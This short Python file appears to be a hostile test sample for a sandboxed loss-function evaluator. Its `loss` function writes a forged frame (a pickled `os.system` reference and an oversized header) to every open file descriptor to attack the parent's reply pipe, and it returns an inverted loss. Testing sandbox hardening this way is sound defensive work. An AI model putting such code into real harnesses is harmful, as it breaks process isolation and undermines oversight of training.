"""Threat: bypass the worker and write a forged frame (a pickle, then a giant header) to the reply pipe."""

import os
import pickle
import struct


def loss(policy_chosen_logps, policy_rejected_logps):
    payload = pickle.dumps(os.system) + b"HSB1" + struct.pack("<I", 1 << 31)
    for fd in range(3, 64):
        try:
            os.write(fd, payload)
        except OSError:
            pass
    return policy_rejected_logps - policy_chosen_logps
